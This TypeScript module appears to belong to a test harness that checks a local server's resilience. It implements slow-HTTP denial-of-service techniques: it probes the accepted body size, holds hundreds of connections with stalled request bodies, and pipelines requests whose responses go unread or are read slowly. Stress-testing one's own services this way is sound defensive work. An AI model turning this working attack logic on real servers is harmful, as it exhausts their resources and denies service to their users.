import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { type HostileRequest, headOf } from './requests.ts';
import type { Scene } from './scene.ts';

const MEGABYTE = 1024 * 1024;
/** Size of request bodies that nobody reads. */
const UNREAD_BODY_BYTES = 64 * 1024;
const STALLED_CONNECTIONS = 240;
/** Total of stalled bodies in an attack; more would only measure the machine. */
const STALLED_BYTES = 320 * MEGABYTE;
const UNREAD_CONNECTIONS = 240;
const REQUESTS_ON_CONNECTION = { GET: 8, POST: 1 } as const;
const OPENED_AT_ONCE = 50;
const HOLD_MS = 1_500;
/** Until everything that is to arrive has been taken, or is not going to be. */
const SENT_WITHIN_MS = 10_000;
const SLOW_READ_BYTES = 512;
const SLOW_READ_EVERY_MS = 100;
const REFUSED_WITHIN_MS = 400;
/** From the largest: an attacker finds out what a service takes. */
const BODY_SIZES = [25 * MEGABYTE, 2 * MEGABYTE, MEGABYTE, 256 * 1024, 64 * 1024, 8 * 1024, 1024];

const open = ({ port }: Scene): Socket => connect({ host: 'localhost', port }).on('error', () => {});

/** Opens connections in small groups, lets each begin, holds them, and closes them all. */
async function holdMany(scene: Scene, count: number, begin: (socket: Socket, index: number) => void): Promise<void> {
  const sockets: Socket[] = [];
  for (let index = 0; index < count; index += 1) {
    const socket = open(scene);
    sockets.push(socket);
    begin(socket, index);
    if (index % OPENED_AT_ONCE === OPENED_AT_ONCE - 1) await delay(10);
  }
  const endsAt = performance.now() + SENT_WITHIN_MS;
  while (sockets.some((socket) => !socket.destroyed && socket.writableLength > 0) && performance.now() < endsAt) {
    await delay(50);
  }
  await delay(HOLD_MS);
  for (const socket of sockets) socket.destroy();
}

/** The largest body that an endpoint does not refuse by its announced length. */
async function bodySizeOf(scene: Scene, request: HostileRequest): Promise<number> {
  const isTaken = (size: number) =>
    new Promise<boolean>((resolve) => {
      const socket = open(scene);
      const settle = (taken: boolean) => {
        clearTimeout(timer);
        socket.destroy();
        resolve(taken);
      };
      const timer = setTimeout(() => settle(true), REFUSED_WITHIN_MS);
      socket.once('data', (answer) => settle(!/^HTTP\/1\.1 4(00|13)/.test(answer.toString('latin1'))));
      socket.once('close', () => settle(false));
      socket.write(`${headOf(request, size)}{`);
    });
  const taken = await Promise.all(BODY_SIZES.map(isTaken));
  return BODY_SIZES[taken.indexOf(true)] ?? 1024;
}

/** Bodies of the largest size that never get their last byte. */
export async function stallBodies(scene: Scene, requests: readonly HostileRequest[]): Promise<void> {
  const sizes = await Promise.all(
    requests.map((request) => (request.method === 'GET' ? UNREAD_BODY_BYTES : bodySizeOf(scene, request))),
  );
  const bodies = new Map([...new Set(sizes)].map((size) => [size, Buffer.alloc(size - 1, ' ')]));
  const connections = Math.min(STALLED_CONNECTIONS, Math.floor(STALLED_BYTES / Math.max(...sizes)));
  await holdMany(scene, connections, (socket, index) => {
    const request = requests[index % requests.length];
    const size = sizes[index % requests.length] ?? 0;
    const body = bodies.get(size);
    if (request === undefined || body === undefined) return;
    socket.resume();
    socket.write(headOf(request, size));
    socket.write(body);
  });
}

/** Answers that nobody reads, or half a kilobyte at a time. */
export async function leaveUnread(scene: Scene, requests: readonly HostileRequest[]): Promise<void> {
  await holdMany(scene, UNREAD_CONNECTIONS, (socket, index) => {
    const request = requests[index % requests.length];
    if (request === undefined) return;
    socket.pause();
    socket.write(`${headOf(request)}${request.body ?? ''}`.repeat(REQUESTS_ON_CONNECTION[request.method]));
    if (index % 2 === 0) return;
    const timer = setInterval(() => socket.read(SLOW_READ_BYTES), SLOW_READ_EVERY_MS);
    socket.once('close', () => clearInterval(timer));
  });
}
